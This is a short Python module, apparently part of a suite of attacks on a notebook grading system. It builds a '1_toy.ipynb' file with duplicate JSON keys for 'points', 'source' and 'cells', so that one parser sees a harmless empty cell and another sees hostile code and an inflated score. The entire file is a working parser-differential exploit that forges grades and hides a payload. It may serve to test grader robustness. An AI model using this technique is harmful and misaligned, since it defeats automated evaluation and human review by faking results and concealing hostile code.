"""Uses keys of JSON twice, so that one reader sees a harmless cell and another one a forged check."""

import json

from attacks import HOSTILE, fill

EARNS = {"sizes"}


def submit(folder, released, solved):
    document = fill(released, {"double": HOSTILE, "sizes": solved["sizes"]})
    text = json.dumps(document)
    text = text.replace('"grade_id": "check_double"', '"grade_id": "check_double", "points": 1000, "points": 6, "x": 0')
    text = text.replace(f'"source": "{HOSTILE}"', f'"source": "double = check = None", "source": "{HOSTILE}"')
    text = text.replace('"cells": [', '"cells": [], "cells": [', 1)
    (folder / "1_toy.ipynb").write_text(text)
